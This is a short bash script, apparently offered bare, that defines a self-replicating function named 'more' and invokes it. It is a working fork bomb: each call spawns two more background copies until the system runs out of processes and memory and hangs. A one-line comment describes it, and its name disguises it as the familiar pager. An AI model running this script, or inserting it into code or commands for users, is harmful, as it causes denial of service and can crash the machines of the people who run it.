#!/bin/bash
: "a function that calls itself twice, in the background"
more() { more | more & }
more
wait
